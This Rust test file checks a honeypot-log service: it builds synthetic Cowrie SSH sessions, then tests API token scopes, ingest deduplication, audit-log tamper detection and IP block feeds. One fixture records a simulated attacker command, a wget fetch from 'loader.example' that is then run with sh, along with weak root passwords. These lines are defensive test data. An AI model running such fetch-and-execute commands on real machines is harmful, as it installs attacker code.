//! The outside contract, checked from outside on both databases.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::centre::{Centre, command, each_store};

/// Self-made Cowrie lines: so many sessions from documentation addresses, some lines twice.
pub(crate) fn cowrie(sessions: usize) -> String {
    let mut out = String::new();
    for n in 0..sessions {
        let (ip, id) = (format!("198.51.100.{}", n % 250 + 1), format!("{n:012x}"));
        let common = format!(
            r#""session":"{id}","src_ip":"{ip}","sensor":"pot-1","timestamp":"2026-11-20T01:{:02}:{:02}.000000Z""#,
            n / 60 % 60,
            n % 60
        );
        out += &format!(
            r#"{{"eventid":"cowrie.session.connect","src_port":4000,"dst_ip":"192.0.2.1","dst_port":22,"protocol":"ssh",{common}}}"#
        );
        out.push('\n');
        for password in ["123456", "admin"] {
            out +=
                &format!(r#"{{"eventid":"cowrie.login.failed","username":"root","password":"{password}",{common}}}"#);
            out.push('\n');
        }
        out += &format!(r#"{{"eventid":"cowrie.session.closed","duration":1.5,{common}}}"#);
        out.push('\n');
    }
    out
}

/// A herd that works for one master, a few minutes ago: the same list, the same commands, the same file, from so many
/// documentation addresses, each twice.
pub(crate) fn herd(sources: usize) -> String {
    let sha = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
    let start = base::Env::system().now().plus_secs(-300);
    let mut out = String::new();
    for n in 0..sources * 2 {
        let source = format!("198.51.100.{}", n % sources + 20);
        let mut second = n as i64 * 2;
        let mut line = |event: &str, more: Value| {
            let mut whole = json!({"eventid": event, "session": format!("{n:012x}"), "src_ip": source, "sensor": "pot-1",
                "protocol": "ssh", "timestamp": start.plus_secs(second).rfc3339()});
            whole.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
            out += &format!("{whole}\n");
            second += 1;
        };
        line("cowrie.session.connect", json!({"src_port": 4000, "dst_ip": "192.0.2.1", "dst_port": 22}));
        for password in ["admin", "root", "toor"] {
            line("cowrie.login.failed", json!({"username": "root", "password": password}));
        }
        line("cowrie.login.success", json!({"username": "root", "password": "123456"}));
        line("cowrie.command.input", json!({"input": "cd /tmp; wget http://loader.example/x86.sh; sh x86.sh"}));
        let file = json!({"url": "http://loader.example/x86.sh", "outfile": "dl/x", "shasum": sha});
        line("cowrie.session.file_download", file);
        line("cowrie.session.closed", json!({"duration": 8.0}));
    }
    out
}

#[tokio::test(flavor = "multi_thread")]
async fn ready_within_a_second_and_routes_keep_their_rules() {
    each_store(async |store| {
        let mut centre = Centre::start(store).await;
        if store.is_none() {
            // The program's time, not that of the tests beside it: the best of some starts with an empty folder.
            let mut best = centre.ready;
            for _ in 0..4 {
                if best.as_millis() >= 1_000 {
                    best = best.min(Centre::start(None).await.ready);
                }
            }
            assert!(best.as_millis() < 1_000, "ready after {best:?}");
        }
        let document = centre.get("/api/v1/openapi.json").await;
        assert_eq!(document["openapi"], "3.1.0");
        let weak = centre.json(&["token", "create", "--name", "weak", "--scope", "read_wall", "--json"]);
        let weak = weak["secret"].as_str().expect("a secret");
        let client = centre.client();
        let mut public = BTreeSet::new();
        for (path, methods) in document["paths"].as_object().expect("paths") {
            for (method, operation) in methods.as_object().expect("methods") {
                let url = format!("{}{}", centre.url(), path.replace("{kind}", "cowrie").replace(['{', '}'], ""));
                let request = || client.request(method.to_uppercase().parse().expect("a method"), &url);
                let bare = request().send().await.expect("an answer").status().as_u16();
                if operation["security"] == json!([]) {
                    public.insert(path.as_str());
                    assert_ne!(bare, 401, "{method} {path}");
                    continue;
                }
                assert_eq!(bare, 401, "{method} {path} without a token");
                let wrong = request().bearer_auth("lft_wrong").send().await.expect("an answer");
                assert_eq!(wrong.status().as_u16(), 401, "{method} {path} with a wrong token");
                assert_eq!(wrong.headers()["content-type"], "application/problem+json");
                if operation["x-lianfang-rule"] != "signed_in" {
                    let beyond = request().basic_auth("any", Some(weak)).send().await.expect("an answer");
                    assert_eq!(beyond.status().as_u16(), 403, "{method} {path} beyond the scope");
                }
            }
        }
        let expected = ["/api/v1/enrol/edge", "/api/v1/enrol/sensor", "/api/v1/session", "/healthz", "/readyz"];
        assert_eq!(public.into_iter().collect::<Vec<_>>(), expected);
        assert!(centre.stop().success());
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn ingest_counts_every_line_once() {
    each_store(async |store| {
        let centre = Centre::start(store).await;
        let file = centre.path("cowrie.json");
        // The first session's lines stand twice in the file; one line is broken, one is blank.
        let body = cowrie(50);
        let first: String = body.lines().take(4).map(|line| format!("{line}\n")).collect();
        std::fs::write(&file, format!("{body}{first}\n{{broken\n")).unwrap();
        let file = file.to_str().unwrap();
        let unknown = centre.run(&["ingest", "--format", "cowrie", "--org", "nobody", "--json", file]);
        assert_eq!(unknown.status.code(), Some(1));
        assert_eq!(
            centre.get("/api/v1/orgs").await["items"].as_array().unwrap().len(),
            1,
            "ingest makes no organisation"
        );
        centre.json(&["org", "add", "north-power", "--json"]);
        let words = ["ingest", "--format", "cowrie", "--org", "north-power", "--json", file];
        let once = centre.json(&words);
        assert_eq!(once, json!({"accepted": 204, "duplicate": 0, "rejected": 1, "events": 204}));
        assert_eq!(centre.settled_events(204).await, 204);
        let again = centre.json(&words);
        assert_eq!(again["accepted"], 0);
        assert_eq!(again["duplicate"].as_u64().unwrap() + again["rejected"].as_u64().unwrap(), 205);
        assert_eq!(again["events"], 0);
        assert_eq!(centre.events().await, 204);
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn audit_export_verifies_and_names_an_altered_entry() {
    let centre = Centre::start(None).await;
    centre.json(&["org", "add", "north-power", "--json"]);
    let file = centre.path("audit.ndjson");
    let export = file.to_str().unwrap();
    // The sequencer signs within a second; the export holds what is signed.
    let mut size = 0;
    for _ in 0..100 {
        assert!(centre.run(&["audit", "export", "--out", export]).status.success());
        let verified = command().args(["audit", "verify", "--json", export]).output().unwrap();
        let verified: Value = serde_json::from_slice(&verified.stdout).unwrap_or_default();
        size = verified["size"].as_u64().unwrap_or(0);
        if size >= 4 {
            assert_eq!(verified["root"].as_str().unwrap().len(), 64);
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(size >= 4, "{size}");
    let text = std::fs::read(&file).unwrap();
    let second_line = text.iter().position(|byte| *byte == b'\n').unwrap() + 1;
    let end = text.iter().rposition(|byte| *byte == b'{').unwrap();
    // Every part of the file is covered: a byte in every 37 of it.
    for at in (second_line..end).step_by(37) {
        let mut altered = text.clone();
        altered[at] ^= 1;
        std::fs::write(&file, &altered).unwrap();
        let output = command().args(["audit", "verify", "--json", export]).output().unwrap();
        assert_eq!(output.status.code(), Some(65), "byte {at} was altered unseen");
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(said.contains("entry"), "byte {at}: {said}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn feeds_have_tags_and_never_a_protected_network() {
    let centre = Centre::start(None).await;
    let token = centre.json(&["token", "create", "--name", "fw", "--scope", "read_feeds", "--json"]);
    let secret = token["secret"].as_str().unwrap().to_owned();
    let ask = |value: &str, hours: u32| json!({"value": value, "intent": "deny", "hours": hours, "reason": "test"});
    for (value, hours, code) in [
        ("10.1.2.3", 2, "LF-EDG-0102"),
        ("203.0.113.0/24", 2, "LF-EDG-0102"),
        ("127.0.0.1", 2, "LF-EDG-0102"),
        ("0.0.0.0/0", 2, "LF-EDG-0102"),
        // No block without an end.
        ("9.9.9.8", 0, "LF-EDG-0102"),
    ] {
        let (status, answer) = centre.post("/api/v1/directives", &ask(value, hours)).await;
        assert_eq!((status, answer["code"].as_str()), (422, Some(code)), "{value}: {answer}");
    }
    let (status, answer) = centre.post("/api/v1/directives", &ask("8.8.4.4", 2)).await;
    assert_eq!(status, 201, "{answer}");
    let url = format!("{}/feeds/block-ip.txt", centre.url());
    let first = centre.client().get(&url).basic_auth("fw", Some(&secret)).send().await.unwrap();
    let tag = first.headers()["etag"].clone();
    let text = first.text().await.unwrap();
    let lines: Vec<&str> = text.lines().filter(|line| !line.starts_with('#')).collect();
    assert_eq!(lines, ["8.8.4.4"], "{text}");
    assert!(text.starts_with('#'));
    let second = centre.client().get(&url).bearer_auth(&secret).header("if-none-match", tag).send().await.unwrap();
    assert_eq!(second.status().as_u16(), 304);
}

#[tokio::test(flavor = "multi_thread")]
async fn blocks_and_any_route_are_scripted() {
    let centre = Centre::start(None).await;
    let made = centre.json(&["block", "add", "8.8.4.4", "--hours", "2", "--reason", "scans", "--json"]);
    assert_eq!((made["key"].as_str(), made["state"].as_str()), (Some("8.8.4.4"), Some("active")), "{made}");
    let id = made["id"].as_str().unwrap();
    let listed = centre.json(&["block", "list", "--json"]);
    assert_eq!(listed["id"], made["id"]);
    assert_eq!(centre.json(&["block", "show", id, "--json"])["directive"]["reason"], "scans");
    let said = |words: &[&str]| {
        let output = centre.run(words);
        (
            output.status.code(),
            format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr)),
        )
    };
    let (code, text) = said(&["block", "add", "127.0.0.1", "--hours", "2", "--reason", "x"]);
    assert!(code == Some(1) && text.contains("LF-EDG-0102"), "{code:?} {text}");
    assert_eq!(said(&["block", "add", "8.8.4.4", "--reason", "no end"]).0, Some(2), "there is no block without an end");
    assert_eq!(centre.json(&["block", "withdraw", id, "--json"])["state"], "ended");
    assert!(said(&["block", "list"]).1.contains("(nothing)"));
    let allowed = ["block", "add", "8.8.8.0/24", "--allow", "--hours", "1", "--reason", "resolver", "--json"];
    assert_eq!(centre.json(&allowed)["intent"], "allow");

    assert_eq!(centre.json(&["api", "GET", "/api/v1/me"])["kind"], centre.get("/api/v1/me").await["kind"]);
    let body = r#"{"name":"north-power","zh":"北區電力","kind":"operator"}"#;
    assert_eq!(centre.json(&["api", "POST", "/api/v1/orgs", "--data", body])["name"], "north-power");
    std::fs::write(centre.path("body.json"), r#"{"en":"North Power"}"#).unwrap();
    let file = format!("@{}", centre.path("body.json").display());
    let path = "/api/v1/orgs/north-power";
    assert_eq!(centre.json(&["api", "PATCH", path, "--data", &file, "--if-match", "v1"])["en"], "North Power");
    let (code, text) = said(&["api", "PATCH", path, "--data", &file, "--if-match", "v1"]);
    assert!(code == Some(1) && text.contains("LF-"), "an old version is refused: {text}");
    let out = centre.path("orgs.ndjson");
    let all = ["api", "GET", "/api/v1/orgs?limit=1", "--all", "--out", out.to_str().unwrap()];
    assert!(centre.run(&all).status.success());
    assert_eq!(std::fs::read_to_string(&out).unwrap().lines().count(), 2, "the centre and its member");
    assert_eq!(said(&["api", "GET", "api/v1/me"]).0, Some(2));
}

#[test]
fn bad_configuration_is_78_and_bad_words_are_2() {
    let folder = testkit::folder();
    let file = folder.path().join("c.toml");
    std::fs::write(&file, "[store]\nulr = 'x'\n").unwrap();
    let output =
        command().args(["serve", "--data"]).arg(folder.path().join("d")).arg("--config").arg(&file).output().unwrap();
    assert_eq!(output.status.code(), Some(78));
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(said.contains("ulr") && said.contains("line 2"), "{said}");
    assert_eq!(command().args(["serve", "--nonsense"]).output().unwrap().status.code(), Some(2));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_folder_in_use_is_refused_with_the_address() {
    let centre = Centre::start(None).await;
    let output =
        command().args(["serve", "--listen", "127.0.0.1:0", "--data"]).arg(centre.path("data")).output().unwrap();
    assert_eq!(output.status.code(), Some(1));
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(said.contains(&format!("--url {}", centre.url())), "{said}");
}
